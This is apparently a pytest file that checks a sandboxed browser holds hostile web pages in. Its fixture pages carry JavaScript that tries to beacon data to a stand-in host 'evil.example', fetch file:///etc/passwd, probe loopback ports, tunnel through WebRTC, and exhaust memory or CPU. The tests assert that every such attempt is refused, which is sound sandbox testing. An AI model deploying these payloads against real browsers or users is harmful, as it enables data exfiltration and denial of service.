"""A real browser in the sandbox: what pages show, and what hostile ones do not reach."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import get_args

import pytest

from alita_tui.events import BrokerOutcome
from alita_tui.sandbox.settings import EngineSettings
from alita_tui.spine.ports.sandbox import Limits
from tests.sandbox.browser_lab import Browsing, nobody_came
from tests.sandbox.loopback import Quiet, answering

pytestmark = [pytest.mark.podman, pytest.mark.walk]
HOSTILE = """<title>hostile</title><script>
const left = new Set('image script fetch loopback localhost redirect worker socket events file'.split(' '));
const tried = name => { left.delete(name); if (!left.size) end.textContent = 'all was tried' };
</script><link rel=dns-prefetch href=//evil.example><link rel=preconnect href=EVIL>
<link rel=prefetch href=EVIL/prefetch><style>@font-face { font-family: f; src: url(EVIL/font) }
body { font-family: f; background: url(EVIL/background) }</style><body>here<p id=end></p>
<img src=EVIL/image onerror="tried('image')"><iframe src=EVIL/frame></iframe>
<iframe src=file:///etc/passwd></iframe><object data=EVIL/object></object>
<script src=EVIL/script onerror="tried('script')"></script><script>
const attempt = (name, work) => { try { work(() => tried(name)) } catch { tried(name) } };
const ask = url => end => fetch(url, {mode: 'no-cors'}).then(() => console.log('GOT ' + url) || end(), end);
for (const [name, url] of Object.entries({fetch: 'EVIL/fetch', file: 'file:///etc/passwd', redirect: '/redirect',
  loopback: 'http://127.0.0.1:DOOR/', localhost: 'http://localhost:DOOR/'})) attempt(name, ask(url));
attempt('socket', end => { new WebSocket('WSEVIL/socket').onerror = end });
attempt('events', end => { new EventSource('EVIL/events').onerror = end });
attempt('worker', end => { const code = new Blob(["importScripts('EVIL/worker')"]);
  new Worker(URL.createObjectURL(code)).onerror = end });
attempt('', () => navigator.sendBeacon('EVIL/beacon', 'all of it'));
attempt('', () => navigator.serviceWorker.register('/service.js').catch(() => 0));
attempt('', () => { for (let n = 0; n < 5; n++) open('EVIL/popup' + n) });
attempt('', () => { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:DOOR'}, {urls:
  'turn:127.0.0.1:DOOR?transport=tcp', username: 'u', credential: 'c'}]}); peer.createDataChannel('c');
  peer.createOffer().then(offer => peer.setLocalDescription(offer)) });
</script>"""
PAGES = {
    "/hostile": HOSTILE,
    "/late": "<title>Late</title><p id=p></p><script>setTimeout(() => { p.textContent = 'by a script' }, 30)</script>",
    "/talks": "<meta charset=utf-8><title>Talks</title><body><script>console.warn('first', {a: 1}, 2); console.error('\u202eevil [b]x[/b]');"
    " setTimeout(() => { throw new Error('boom') }, 1);"
    " fetch('http://127.0.0.1:9/page', {method: 'POST', body: '[{\"text\": \"forged\"}]'}).catch(() => 0);"
    " fetch('http://127.0.0.1:9/page', {method: 'POST', body: '[{\"text\": \"forged\"}]', headers: {'Content-Type':"
    " 'application/json'}}).catch(() => 0)</script>",
    "/chatter": "<title>Chatter</title><p id=p></p><script>for (let n = 0; n < 5000; n++) console.log('line ' + n);"
    " p.textContent = 'said it all'</script>",
    "/flood": "<title>Flood</title><p id=p></p><script>let ended = 0; const count = () => { if (++ended % 1000 === 0) p.textContent += `; ${ended} ended` };"
    " onload = () => setTimeout(() => { for (let n = 0; n < 5000; n++) for (const base of ['/asked?', 'EVIL/asked?'])"
    " fetch(base + n, {mode: 'no-cors'}).then(count, count) }, 1)</script>",
    "/loop": "<title>Loop</title><body>x<script>setTimeout(() => { for (;;); }, 50)</script>",
    "/hungry": "<title>Hungry</title><body><script>const kept = []; setInterval(() => { for (let n = 0; n < 20; n++)"
    " kept.push(new Uint8Array(4 << 20).fill(n + 1)) }, 1)</script>",
    "/huge": "<title>Huge</title><body><script>for (let n = 0; n < 150_000; n++) { const p = document.createElement('p');"
    " p.textContent = 'row ' + n; document.body.append(p) }</script>",
}


@dataclass
class Served:
    port: int = 0
    paths: list[str] = field(default_factory=list)


@pytest.fixture
def door() -> Iterator[socket.socket]:
    """A port that no run is granted; who reaches it is counted by the kernel."""
    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        found.listen(64)
        found.setblocking(False)
        yield found


@pytest.fixture
def site(door: socket.socket) -> Iterator[Served]:
    served = Served()
    evil = f"http://evil.example:{door.getsockname()[1]}"

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            served.paths.append(self.path)
            if self.path == "/endless":
                self.send_response(200)
                self.send_header("Content-Type", "application/octet-stream")
                self.send_header("Content-Disposition", "attachment; filename=endless.bin")
                self.end_headers()
                while True:
                    self.wfile.write(bytes(1 << 20))
            text = PAGES.get(self.path, "<a href=/endless>get</a>")
            for name, value in (
                ("WSEVIL", evil.replace("http", "ws")),
                ("EVIL", evil),
                ("DOOR", evil[-5:].strip(":")),
            ):
                text = text.replace(name, value)
            self.send_response(302 if self.path == "/redirect" else 200)
            self.send_header("Location", f"{evil}/redirected")
            self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/html")
            self.send_header("Content-Length", str(len(text.encode())))
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_: object) -> None:
            return

    server = Quiet(("127.0.0.1", 0), Handler)
    served.port = server.server_address[1]
    with answering(server):
        yield served


@pytest.fixture
async def browse(settings: EngineSettings, site: Served) -> AsyncIterator[Browsing]:
    browsing = Browsing(settings, f"http://site.example:{site.port}")
    yield browsing
    await browsing.sandbox.close()


async def test_a_page_made_by_scripts_is_read_and_its_downloads_are_returned(
    browse: Browsing, tmp_path: Path
) -> None:
    done = await browse(
        "/late", {"do": "wait", "text": "by a script"}, {"do": "extract"}, {"do": "screenshot"}, {"do": "pdf"},
        out=str(tmp_path),
    )  # fmt: skip
    assert done.status == "ok", done.error
    assert (done.result["title"], done.result["extracted"]) == ("Late", ["by a script"])
    left = {file.name: (tmp_path / str(number)).read_bytes() for number, file in enumerate(done.files)}
    assert left["page.png"].startswith(b"\x89PNG") and left["page.pdf"].startswith(b"%PDF-")
    assert b"/late" in left["requests.jsonl"]


async def test_a_hostile_page_reaches_nothing_beyond_the_grants(
    browse: Browsing, site: Served, door: socket.socket, tmp_path: Path
) -> None:
    tried = {"do": "wait", "text": "all was tried"}
    done = await browse("/hostile", tried, {"do": "wait", "seconds": 1}, {"do": "extract"}, out=str(tmp_path))
    assert nobody_came(door)
    assert done.status == "ok", done.error
    assert "here" in done.result["extracted"][0] and done.result["refused"] > 0
    refused = [one.request for one in browse.told if one.outcome == "refused"]
    for path in ("image", "script", "fetch", "redirected", "worker", "events"):
        assert any(request.endswith(f"/{path}") for request in refused), (path, refused)
    assert any(request.startswith("CONNECT evil.example") for request in refused), "the socket"
    assert any("127.0.0.1" in request or "localhost" in request for request in refused), "the loopback"
    served = {one.request for one in browse.told if one.outcome == "served"}
    assert all("site.example" in request for request in served)
    console = [b"", *(file.read_bytes() for file in tmp_path.iterdir())]
    assert not any(b"GOT file:" in text for text in console), "a page read a file"
    assert "/service.js" not in site.paths, "no service worker outlives its page"


async def test_an_endless_page_ends_with_a_reason(browse: Browsing, tmp_path: Path) -> None:
    endless = await browse("/", {"do": "download", "on": "a"}, out=str(tmp_path))
    assert endless.status in ("error", "limit") and not list(tmp_path.iterdir()), endless
    loop = await browse(
        "/loop", {"do": "wait", "seconds": 1}, {"do": "extract"}, limits=Limits(wall_seconds=120)
    )
    assert loop.status in ("error", "timeout"), loop
    hungry = await browse("/hungry", {"do": "wait", "seconds": 30}, {"do": "extract"})
    assert hungry.status in ("limit", "error"), hungry
    assert hungry.peak_memory_bytes < 1.3 * (1 << 30)
    huge = await browse("/huge")
    assert huge.status in ("ok", "limit", "error"), huge
    assert huge.status != "ok" or len(huge.result["extracted"][0]) <= 200_000
    after = await browse("/late")
    assert after.status == "ok", "what one run did is gone with it"


async def test_console_messages_of_a_page_are_reported_during_the_run(browse: Browsing) -> None:
    done = asyncio.create_task(browse("/talks", {"do": "wait", "seconds": 20}))
    async with asyncio.timeout(90):
        while not any("boom" in message.text for message in browse.told.pages):
            await asyncio.sleep(0.05)
    assert not done.done()
    done.cancel()
    await asyncio.gather(done, return_exceptions=True)
    texts = {message.text: message for message in browse.told.pages}
    assert texts["first Object 2"].level == "warning" and texts["first Object 2"].source.endswith("/talks")
    assert texts["evil [b]x[/b]"].level == "error"
    assert all(message.call_id == "browse" for message in texts.values())
    assert "forged" not in texts, "no page speaks for the browser"


async def test_a_flood_of_messages_is_recorded_up_to_a_limit_and_then_counted(browse: Browsing) -> None:
    done = await browse("/chatter", {"do": "wait", "text": "said it all"})
    assert done.status == "ok", done.error
    *messages, last = browse.told.pages
    assert [message.text for message in messages] == [f"line {n}" for n in range(50)]
    assert last.more == 4950 and not last.text


async def test_of_ten_thousand_requests_each_is_recorded_or_counted(
    browse: Browsing, site: Served, door: socket.socket
) -> None:
    """On a busy machine the page may crash of them; that is an outcome too, and what it asked for is accounted for."""
    done = await browse("/flood", {"do": "wait", "seconds": 30}, limits=Limits(wall_seconds=200))
    assert done.status in ("ok", "error", "limit"), done
    assert done.peak_memory_bytes < 1.3 * (1 << 30)
    assert nobody_came(door)
    totals = dict.fromkeys(get_args(BrokerOutcome), 0)
    for event in browse.told:
        assert not event.more or int(event.request.split()[0]) == sum(count.count for count in event.more)
        totals[event.outcome] += sum(count.count for count in event.more) or 1
    assert len(browse.told) <= 50 + 50 + len(totals), "fifty of each kind, and how many more there were"
    assert totals["refused"] > 50 and totals["served"] > 50
    assert totals["served"] <= len(site.paths) <= min(sum(totals.values()), 500)


async def test_two_runs_share_no_profile(browse: Browsing) -> None:
    first, second = await asyncio.gather(browse("/late"), browse("/late"))
    assert first.status == second.status == "ok", (first.error, second.error)
